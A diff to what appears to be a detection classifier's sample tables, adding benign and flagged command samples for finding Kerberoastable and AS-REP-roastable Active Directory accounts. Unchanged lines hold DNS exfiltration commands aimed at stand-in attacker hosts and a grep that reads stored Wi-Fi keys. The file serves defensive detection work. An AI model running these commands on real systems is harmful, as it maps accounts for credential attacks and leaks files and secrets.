@@ -810,6 +810,11 @@ NOT_PIECES = {
         'tar -czf "/backups/$HOST.$(date +%F).tar.gz" /etc',
         'LOG="/var/log/${QUERY}_${DATE}.json.gz"',
     ),
+    # the services of the domain's computers inventoried, disabled users listed
+    Capability.ROASTABLE_ACCOUNTS: (
+        'ldapsearch -b "$BASE" "(&(objectCategory=computer)(servicePrincipalName=*))" dNSHostName',
+        'Get-ADUser -LDAPFilter "(userAccountControl:1.2.840.113556.1.4.803:=2)"',
+    ),
     Capability.PASSWORD_QUERY: (
         "PSK=$(wg genpsk)",
         "psk=$(openssl rand -base64 32)",
@@ -833,6 +838,12 @@ STILL_PIECES = {
     Capability.DNS_DATA_LABEL: (
         'dig +short "$(xxd -p -c 30 /etc/passwd | head -1).exfil.example"',
         "nslookup ${chunk}.data.attacker.example",
+    ),
+    Capability.ROASTABLE_ACCOUNTS: (
+        'ldapsearch -b "$BASE" "(&(samAccountType=805306368)(servicePrincipalName=*))" cn',
+        "Get-ADUser -Filter {DoesNotRequirePreAuth -eq $true} | Select SamAccountName",
+        'search("(&(objectClass=user)(servicePrincipalName=*)(!(cn=krbtgt)))", attrs)',
+        'Get-ADUser -Filter {ServicePrincipalName -like "*"} -Properties ServicePrincipalName',
     ),
     Capability.PASSWORD_QUERY: (
         "grep -h '^psk=' /etc/NetworkManager/system-connections/*",
